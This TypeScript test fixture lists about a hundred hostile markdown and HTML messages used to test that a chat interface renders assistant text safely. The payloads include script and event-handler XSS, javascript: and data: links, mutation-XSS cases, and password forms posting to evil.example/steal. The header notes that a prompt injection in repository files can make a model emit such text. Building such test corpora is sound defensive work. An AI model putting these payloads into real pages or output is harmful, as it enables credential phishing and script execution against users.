/**
 * Hostile assistant messages (issue #11), shared by the jsdom test (xssCorpus.test.tsx) and the Chromium end-to-end
 * test (tests/e2e/xss-chat.spec.ts). Assistant text is attacker-controlled: a prompt injection in any file of the
 * repository the model works on can make it say any of these. Sources: the issue's own reports, the OWASP XSS filter
 * evasion cheat sheet, DOMPurify's mutation-XSS cases and CommonMark's corner cases (fences, escapes, entities).
 *
 * `shows`: text the message must display, proving the raw HTML is shown as the text it is rather than dropped.
 * Test-only: nothing in the app imports this file.
 */
export interface XssPayload {
  name: string;
  markdown: string;
  shows?: string;
}

export const xssCorpus: readonly XssPayload[] = [
  // The reports: a backslash-escaped backtick opened no code span, but the old pre-split thought it did.
  {
    name: 'escaped backtick hides a password form',
    markdown: '\\`<form action="https://evil.example/steal"><input name=password type=password><button>Sign in</button></form>`',
    shows: '<input name=password type=password>',
  },
  {
    name: 'escaped backtick hides a meta refresh',
    markdown: '\\`<meta http-equiv="refresh" content="0;url=https://evil.example/">`',
    shows: '<meta http-equiv=',
  },
  {
    name: 'escaped backtick hides a fixed overlay',
    markdown: '\\`<div style="position:fixed;inset:0;z-index:9999;background:#fff">Session expired. Sign in again.</div>`',
    shows: 'position:fixed',
  },
  {
    name: 'escaped backtick hides an object',
    markdown: '\\`<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"></object>`',
    shows: '<object',
  },
  { name: 'escaped backtick hides an embed', markdown: '\\`<embed src="https://evil.example/x.swf">`', shows: '<embed' },
  { name: 'escaped backtick hides a base', markdown: '\\`<base href="https://evil.example/">`', shows: '<base href=' },
  {
    name: 'escaped backtick hides a stylesheet',
    markdown: '\\`<link rel="stylesheet" href="https://evil.example/x.css">`',
    shows: '<link rel=',
  },
  { name: 'double backslash before a backtick', markdown: '\\\\`<img src=x onerror=alert(1)>`', shows: 'onerror=alert(1)' },
  { name: 'escaped backtick at both ends', markdown: '\\`<iframe src="https://evil.example"></iframe>\\`', shows: '<iframe' },
  { name: 'code spans of different lengths', markdown: '``<script>` ``<img src=x onerror=alert(1)>' },
  { name: 'HTML between two code spans', markdown: '`a` <img src=x onerror=alert(1)> `b`', shows: '<img src=x onerror=alert(1)>' },

  // Fences: mismatched, nested, unclosed, with hostile info strings.
  {
    name: 'mismatched fence (~~~ then ```)',
    markdown:
      '~~~\n```\n<form action="https://evil.example/steal"><input name=password></form>\n~~~\n<iframe src="https://evil.example"></iframe>',
    shows: '<iframe',
  },
  {
    name: 'mismatched fence (``` then ~~~)',
    markdown: '```\n~~~\n```\n<form action="https://evil.example"><input name=password></form>\n~~~',
    shows: '<form',
  },
  {
    name: 'nested fences',
    markdown: '````md\n```html\n<script>alert(1)</script>\n```\n````\n<img src=x onerror=alert(1)>',
    shows: '<script>alert(1)</script>',
  },
  { name: 'unclosed fence', markdown: '```\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>', shows: '<script>' },
  { name: 'short closing fence', markdown: '````\n<b>in</b>\n```\n<svg onload=alert(1)>', shows: '<svg onload=alert(1)>' },
  { name: 'HTML in a fence info string', markdown: '```<img src=x onerror=alert(1)>\ncode\n```', shows: 'code' },
  { name: 'attribute injection in a fence language', markdown: '```js" onmouseover="alert(1)\nconst a = 1;\n```', shows: 'const a = 1;' },
  {
    name: 'indented code then HTML',
    markdown: '    <script>alert(1)</script>\n\n<img src=x onerror=alert(1)>',
    shows: '<script>alert(1)</script>',
  },

  // Raw HTML elements of every dangerous kind.
  { name: 'script', markdown: '<script>alert(1)</script>', shows: '<script>alert(1)</script>' },
  { name: 'img onerror', markdown: '<img src=x onerror=alert(1)>', shows: '<img src=x onerror=alert(1)>' },
  { name: 'svg onload', markdown: '<svg onload=alert(1)><circle r=10></circle></svg>', shows: '<svg onload=alert(1)>' },
  { name: 'svg xlink:href', markdown: '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>' },
  { name: 'math mutation XSS', markdown: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', shows: '<math>' },
  { name: 'iframe', markdown: '<iframe src="https://evil.example/"></iframe>', shows: '<iframe src=' },
  { name: 'iframe srcdoc', markdown: '<iframe srcdoc="<script>alert(1)</script>"></iframe>', shows: 'srcdoc' },
  { name: 'style element', markdown: '<style>body{display:none}</style>', shows: '<style>' },
  {
    name: 'style attribute overlay',
    markdown: '<p style="position:fixed;top:0;left:0;width:100%;height:100%">Verify your account</p>',
    shows: 'position:fixed',
  },
  { name: 'button formaction', markdown: '<button formaction="javascript:alert(1)">Continue</button>', shows: 'formaction' },
  {
    name: 'form and submit',
    markdown: '<form action="https://evil.example/steal" method="post"><input type="submit" value="Sign in"></form>',
    shows: '<form action=',
  },
  { name: 'input autofocus onfocus', markdown: '<input autofocus onfocus=alert(1)>', shows: 'onfocus=alert(1)' },
  { name: 'textarea', markdown: '<textarea name="token">paste your token</textarea>', shows: '<textarea' },
  { name: 'select', markdown: '<select name="x"><option>a</option></select>', shows: '<select' },
  { name: 'details ontoggle', markdown: '<details open ontoggle=alert(1)><summary>More</summary>x</details>', shows: 'ontoggle' },
  { name: 'raw javascript: link', markdown: '<a href="javascript:alert(1)">click</a>', shows: 'javascript:alert(1)' },
  { name: 'body onload', markdown: '<body onload=alert(1)>', shows: '<body onload=alert(1)>' },
  { name: 'video source onerror', markdown: '<video><source onerror="alert(1)"></video>', shows: '<video>' },
  { name: 'audio src', markdown: '<audio src="https://evil.example/a.mp3" autoplay></audio>', shows: '<audio' },
  { name: 'marquee onstart', markdown: '<marquee onstart=alert(1)>x</marquee>', shows: '<marquee' },
  { name: 'noscript mutation XSS', markdown: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', shows: '<noscript>' },
  { name: 'comment trick', markdown: '<!--><img src=x onerror=alert(1)>-->', shows: 'onerror' },
  { name: 'CDATA', markdown: '<![CDATA[<img src=x onerror=alert(1)>]]>', shows: 'CDATA' },
  { name: 'upper-case tag', markdown: '<IMG SRC=x ONERROR=alert(1)>', shows: '<IMG SRC=x ONERROR=alert(1)>' },
  { name: 'tag across lines', markdown: '<img\nsrc=x\nonerror=alert(1)>', shows: 'onerror=alert(1)' },
  { name: 'slashes instead of spaces', markdown: '<img/src=x/onerror=alert(1)>', shows: '<img/src=x/onerror=alert(1)>' },
  { name: 'JSX component with a handler', markdown: '<Button onClick={() => alert(1)}>Deploy</Button>', shows: '<Button' },
  { name: 'JSX expression href', markdown: '<a href={"javascript:alert(1)"}>x</a>', shows: '<a href=' },
  { name: 'HTML block around markdown', markdown: '<div style="position:fixed;inset:0">\n\n**inside**\n\n</div>', shows: 'position:fixed' },

  // Entities.
  { name: 'entity-encoded tag', markdown: '&lt;img src=x onerror=alert(1)&gt;', shows: '<img src=x onerror=alert(1)>' },
  { name: 'numeric entities', markdown: '&#60;script&#62;alert(1)&#60;/script&#62;', shows: '<script>alert(1)</script>' },
  { name: 'double-encoded entities', markdown: '&amp;lt;script&amp;gt;alert(1)', shows: '&lt;script&gt;' },

  // HTML inside markdown structures.
  {
    name: 'HTML in a table cell',
    markdown: '| a | b |\n|:--|--:|\n| <img src=x onerror=alert(1)> | <a href="javascript:alert(1)">x</a> |',
    shows: 'onerror',
  },
  { name: 'HTML in a list', markdown: '- <form action="https://evil.example"><input name=p></form>\n- second', shows: '<form' },
  { name: 'HTML in a blockquote', markdown: '> <iframe src="https://evil.example"></iframe>\n> quoted', shows: '<iframe' },
  { name: 'HTML in a heading', markdown: '# <script>alert(1)</script>', shows: '<script>' },
  { name: 'HTML in link text', markdown: '[<img src=x onerror=alert(1)>](https://ok.example/)', shows: '<img' },
  { name: 'HTML in emphasis', markdown: '**<svg onload=alert(1)>** _<object data=x>_', shows: '<svg' },
  { name: 'HTML in a footnote', markdown: 'See note[^x].\n\n[^x]: <img src=x onerror=alert(1)>', shows: 'onerror' },

  // Links: dangerous schemes, plain and obfuscated.
  { name: 'javascript: link', markdown: '[x](javascript:alert(1))' },
  { name: 'upper-case JAVASCRIPT: link', markdown: '[x](JAVASCRIPT:alert(1))' },
  { name: 'mixed-case link', markdown: '[x](JaVaScRiPt:alert(1))' },
  { name: 'tab entity in the scheme', markdown: '[x](jav&#x09;ascript:alert(1))' },
  { name: 'newline entity in the scheme', markdown: '[x](java&#10;script:alert(1))' },
  { name: 'all-entity scheme', markdown: '[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))' },
  { name: 'semicolon-less entity', markdown: '[x](&#106avascript:alert(1))' },
  { name: 'leading whitespace', markdown: '[x]( javascript:alert(1))' },
  { name: 'angle-bracket destination', markdown: '[x](<javascript:alert(1)>)' },
  { name: 'control character before the scheme', markdown: '[x](\u0001javascript:alert(1))' },
  { name: 'percent-encoded colon', markdown: '[x](javascript%3Aalert(1))' },
  { name: 'data: text/html link', markdown: '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)' },
  { name: 'data: SVG link', markdown: '[x](data:image/svg+xml,<svg onload=alert(1)>)' },
  { name: 'vbscript: link', markdown: '[x](vbscript:msgbox(1))' },
  { name: 'file: link', markdown: '[x](file:///etc/passwd)' },
  { name: 'javascript: autolink', markdown: '<javascript:alert(1)>' },
  { name: 'data: autolink', markdown: '<data:text/html,<script>alert(1)</script>>' },
  { name: 'bare URLs', markdown: 'Visit https://evil.example/phish or www.evil.example today.' },
  { name: 'reference link to javascript:', markdown: '[ref]\n\n[ref]: javascript:alert(1)' },
  { name: 'reference link title with quotes', markdown: '[ref][r]\n\n[r]: https://ok.example/ "a\\" onmouseover=\\"alert(1)"' },
  { name: 'link title with double quotes', markdown: '[x](https://ok.example/ "t\\" onmouseover=\\"alert(1)")' },
  { name: 'link title with single quotes', markdown: "[x](https://ok.example/ 'a' onclick='alert(1)')" },
  { name: 'protocol-relative link', markdown: '[x](//evil.example/)' },
  { name: 'backslash host', markdown: '[x](\\\\evil.example/)' },
  { name: 'in-page anchor', markdown: '[x](#root)' },

  // Unicode tricks.
  { name: 'full-width scheme', markdown: '[x](ｊａｖａｓｃｒｉｐｔ:alert(1))' },
  { name: 'zero-width space in the scheme', markdown: '[x](java\u200bscript:alert(1))' },
  { name: 'right-to-left override', markdown: '[invoice.pdf](https://evil.example/\u202efdp.exe)' },
  { name: 'full-width angle brackets', markdown: '＜script＞alert(1)＜/script＞', shows: '＜script＞' },
  { name: 'NUL inside a tag name', markdown: '<scr\u0000ipt>alert(1)</script>' },
  { name: 'zero-width space after <', markdown: '<\u200bimg src=x onerror=alert(1)>', shows: 'onerror' },

  // Images: nothing is fetched until a click.
  { name: 'tracking pixel', markdown: '![x](https://evil.example/pixel.png)' },
  { name: 'image with a title', markdown: '![chart](https://evil.example/p.png "Quarterly chart")' },
  { name: 'reference image', markdown: '![x][p]\n\n[p]: https://evil.example/p.png' },
  { name: 'data: PNG image', markdown: '![x](data:image/png;base64,iVBORw0KGgo=)' },
  { name: 'data: SVG image', markdown: '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)' },
  { name: 'javascript: image', markdown: '![x](javascript:alert(1))' },
  { name: 'image inside a link', markdown: '[![x](https://evil.example/p.png)](https://evil.example/)' },
  { name: 'HTML in alt text', markdown: '![<img src=x onerror=alert(1)>](https://evil.example/p.png)' },
  { name: 'relative image', markdown: '![me](/web-api/user/me)' },

  // Markdown structures that produce attributes.
  { name: 'headings that would clobber ids', markdown: '# root\n\n## __proto__\n\n### app-ready' },
  { name: 'task list', markdown: '- [x] done\n- [ ] todo' },
  { name: 'front matter', markdown: '---\ntitle: <script>alert(1)</script>\n---\nbody' },
];
